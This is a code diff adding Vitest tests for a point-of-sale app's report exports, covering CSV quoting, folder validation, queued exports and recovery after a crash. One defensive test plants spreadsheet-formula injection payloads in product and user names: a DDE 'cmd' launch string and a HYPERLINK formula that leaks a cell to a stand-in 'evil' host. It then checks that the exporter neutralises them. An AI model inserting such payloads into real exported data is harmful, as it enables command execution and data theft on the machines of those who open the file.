@@ -2,15 +2,17 @@ import Database from 'better-sqlite3'
 import { parse } from 'csv-parse/sync'
 import fs from 'node:fs'
 import path from 'node:path'
+import { Writable } from 'node:stream'
 import { extractText } from 'unpdf'
 import { afterEach, describe, expect, it } from 'vitest'
 import type { ReportProgress } from '../../shared/contract'
 import { csvCell, formatCell, reportDocument } from '../../shared/report-doc'
 import { createBackend } from '../backend'
+import { mayReceive } from '../core/session-gate'
 import { expectPosError, newRequestId, testBackend, type TestBackend } from '../../tests/support/backend'
 import { fillTickets } from '../../tests/support/history'
 import { startFakePrinter } from '../../tests/support/fake-printer'
-import { PAGE_ROWS } from './export'
+import { csvLines, PAGE_ROWS } from './export'
 
 let b: TestBackend
 afterEach(() => b?.cleanup())
@@ -60,6 +62,12 @@ async function sellSome() {
 }
 
 describe('exports', () => {
+  it('quote what must be quoted (RFC 4180) and read back the same', () => {
+    const rows = [['a,b', 'say "hi"', 'two\nlines', ' padded ', '1.50', 7]]
+    expect(parse(csvLines(rows))).toEqual([['a,b', 'say "hi"', 'two\nlines', ' padded ', '1.50', '7']])
+    expect(csvLines([])).toBe('')
+  })
+
   it('writes a table as CSV and the whole report as PDF, as the screen shows them, and records each for central', async () => {
     b = testBackend({ start: '2026-12-01T15:00:00Z' })
     await sellSome()
@@ -305,7 +313,10 @@ describe('the day close', () => {
     expect(row(id)).toMatchObject({ status: 'completed', report_url: end.file })
     const text = await pdfText(end.file!)
     expect(text).toContain(formatCell(day.totals.sales.amount, 'money', { currency: 'USD', locale: 'en-US' }))
-    expect(text).toContain('Sales report: Dec 1, 2026')
+    // The stored day report itself (what central got), not a new reading of the records.
+    expect(text).toContain('Day report: Dec 1, 2026')
+    expect(text).toContain('Day balanced')
+    expect(text).toContain(formatCell(day.lottery_cash_due, 'signed_money', { currency: 'USD', locale: 'en-US' }))
   })
 })
 
@@ -349,6 +360,185 @@ describe('the printed summary', () => {
       expect(printer.received().toString('latin1')).toContain("Carlos Cashier's own figures")
     } finally {
       await printer.close()
+    }
+  })
+})
+
+describe('what an attacker or a power cut could do to an export', () => {
+  it("keeps the store's own text from running as a spreadsheet formula", async () => {
+    b = testBackend({ start: '2026-12-01T15:00:00Z' })
+    const m = await b.login('maria')
+    const s = await b.login('carlos')
+    b.ctx.db.prepare(`UPDATE users SET name = '@SUM(1+1)*cmd|'' /C calc''!A0' WHERE username = 'carlos'`).run()
+    const supplier = await b.call(m, 'supplier-save', { supplier: { name: 'Metro' } })
+    const evil = await b.call(m, 'product-save', {
+      product: { product_name: '=HYPERLINK("http://evil/?x="&A1,"Cola")', sku: 'EVIL-1', price: 150 },
+    })
+    await b.call(m, 'purchase-create', {
+      supplierId: supplier._id,
+      reference: 'PO-9',
+      lines: [{ productId: evil._id, quantity: 5, unitPrice: 80 }],
+    })
+    await b.call(m, 'purchase-receive', { reference: 'PO-9' })
+    await b.call(s, 'sale-create', {
+      requestId: newRequestId(),
+      paymentMethod: 'cash',
+      lines: [
+        { lotteryId: b.gameId('PICK3'), quantity: 1 },
+        { productId: evil._id, quantity: 1 },
+      ],
+    } as never)
+    const p = progress(b)
+    const period = { kind: 'today' } as const
+    const products = await b.call(m, 'report-export', { report: 'sales', period, format: 'csv', table: 'by_product' })
+    const rows = parse(fs.readFileSync((await p.end(products._id)).file!, 'utf8')) as string[][]
+    expect(rows[1][0]).toBe(`'=HYPERLINK("http://evil/?x="&A1,"Cola")`)
+    // Numbers stay numbers, a negative one too.
+    expect(rows[1][3]).toBe('1.58')
+    const tickets = await b.call(m, 'report-export', { report: 'sales', period, format: 'csv', table: 'tickets' })
+    const lines = parse(fs.readFileSync((await p.end(tickets._id)).file!, 'utf8'), { columns: true }) as Record<
+      string,
+      string
+    >[]
+    expect(lines[0].Cashier).toMatch(/^'@SUM/)
+  })
+
+  it('refuses a folder that is not a plain full path of this computer, before anything is written', async () => {
+    b = testBackend()
+    const m = await b.login('maria')
+    const before = b.ctx.db.prepare('SELECT COUNT(*) AS n FROM reports').get()
+    for (const folder of ['C:/Users/x', '\\\\server\\share', `${b.dataDir}/../elsewhere`, 'reports'])
+      await expectPosError(
+        b.call(m, 'report-export', { report: 'sales', period: { kind: 'today' }, format: 'pdf', folder }),
+        'VALIDATION',
+      )
+    expect(b.ctx.db.prepare('SELECT COUNT(*) AS n FROM reports').get()).toEqual(before)
+    const p = progress(b)
+    const ok = await b.call(m, 'report-export', {
+      report: 'sales',
+      period: { kind: 'today' },
+      format: 'pdf',
+      folder: `${b.dataDir}/picked/`,
+    })
+    expect((await p.end(ok._id)).file).toBe(path.join(b.dataDir, 'picked', 'sales_2026-11-21.pdf'))
+  })
+
+  it("runs two exports at once and queues the rest; a day report cannot be cancelled; progress is the managers'", async () => {
+    let release = () => {}
+    const gate = new Promise<void>((r) => (release = r))
+    b = testBackend({
+      openReportFile: (tmp) => {
+        const file = fs.createWriteStream(tmp, { flags: 'wx' })
+        return new Writable({
+          write: (chunk, _enc, cb) => void file.write(chunk, (err) => (err ? cb(err) : void gate.then(() => cb()))),
+          final: (cb) => file.end(cb),
+          destroy: (err, cb) => {
+            file.destroy()
+            cb(err)
+          },
+        })
+      },
+    })
+    await sellSome()
+    const m = await b.login('maria')
+    const p = progress(b)
+    const args = { report: 'sales', period: { kind: 'today' }, format: 'csv', table: 'tickets' } as const
+    const [one, two, three] = [
+      await b.call(m, 'report-export', args),
+      await b.call(m, 'report-export', args),
+      await b.call(m, 'report-export', args),
+    ]
+    await p.running(one._id)
+    await p.running(two._id)
+    expect(p.seen.some((x) => x.report_id === three._id)).toBe(false)
+    await b.call(m, 'report-export-cancel', { reportId: one._id })
+    await p.end(one._id)
+    await p.running(three._id)
+    release()
+    expect((await p.end(two._id)).status).toBe('completed')
+    expect((await p.end(three._id)).status).toBe('completed')
+    // Export progress names files and people: only for those who may export.
+    expect(mayReceive(b.dispatcher, m, 'report-progress')).toBe(true)
+    expect(mayReceive(b.dispatcher, 'carlos', 'report-progress')).toBe(false)
+    expect(mayReceive(b.dispatcher, 'carlos', 'sale-committed')).toBe(true)
+  })
+
+  it('a record that cannot be written at the end: logged, not thrown; the next start says so', async () => {
+    const logged: string[] = []
+    b = testBackend({ log: (msg) => logged.push(msg) })
+    const m = await b.login('maria')
+    const p = progress(b)
+    // The disk fills between the file and its record.
+    b.ctx.db.exec(
+      "CREATE TEMP TRIGGER full_disk BEFORE UPDATE ON main.reports BEGIN SELECT RAISE(FAIL, 'database or disk is full'); END",
+    )
+    const r = await b.call(m, 'report-export', { report: 'sales', period: { kind: 'today' }, format: 'pdf' })
+    const end = await p.end(r._id)
+    expect(end.status).toBe('completed')
+    expect(fs.existsSync(end.file!)).toBe(true)
+    expect(row(r._id)).toMatchObject({ status: 'scheduled' })
+    await b.close()
+    const again = createBackend({
+      dataDir: b.dataDir,
+      configPath: null,
+      log: () => {},
+      dailyBackups: false,
+      startSync: false,
+    })
+    try {
+      expect(again.ctx.db.prepare('SELECT status FROM reports WHERE _id = ?').get(r._id)).toEqual({ status: 'failed' })
+    } finally {
+      await again.close()
+    }
+  })
+
+  it("writes a day close's report again at the next start when the app stopped before it was done", async () => {
+    b = testBackend({ start: '2026-12-01T15:00:00Z' })
+    await sellSome()
+    const m = await b.login('maria')
+    const s = 'carlos'
+    const shift = (await b.call(s, 'shift-current')).shift!
+    const paid = (method: string) =>
+      (
+        b.ctx.db
+          .prepare('SELECT COALESCE(SUM(total_amount), 0) AS n FROM sales WHERE payment_method = ?')
+          .get(method) as {
+          n: number
+        }
+      ).n
+    await b.call(s, 'shift-close', { shiftId: shift._id, count: { cash: { total: paid('cash') }, card: paid('card') } })
+    const p = progress(b)
+    const day = await b.call(m, 'report-day-close', { day: '2026-12-01' })
+    const id = day.stored!.report_id
+    await expectPosError(b.call(m, 'report-export-cancel', { reportId: id }), 'NOT_ALLOWED')
+    // The app closes before the PDF is written: the day's record stays scheduled, its figures stored.
+    await b.close()
+    expect(p.seen.filter((x) => x.report_id === id && x.status !== 'running')).toEqual([])
+    const raw = new Database(path.join(b.dataDir, 'pos.sqlite'), { readonly: true })
+    expect(raw.prepare('SELECT status FROM reports WHERE _id = ?').get(id)).toEqual({ status: 'scheduled' })
+    raw.close()
+    // The next start writes it.
+    const again = createBackend({
+      dataDir: b.dataDir,
+      configPath: null,
+      log: () => {},
+      dailyBackups: false,
+      startSync: false,
+    })
+    try {
+      const done = await new Promise<ReportProgress>((resolve) =>
+        again.events.subscribe((e, x) => {
+          if (e === 'report-progress' && (x as ReportProgress).status !== 'running') resolve(x as ReportProgress)
+        }),
+      )
+      expect(done).toMatchObject({ report_id: id, status: 'completed' })
+      expect(again.ctx.db.prepare('SELECT status, report_url FROM reports WHERE _id = ?').get(id)).toEqual({
+        status: 'completed',
+        report_url: path.join(b.dataDir, 'reports', 'day-report_2026-12-01.pdf'),
+      })
+      expect(fs.readdirSync(path.join(b.dataDir, 'reports'))).toEqual(['day-report_2026-12-01.pdf'])
+    } finally {
+      await again.close()
     }
   })
 })
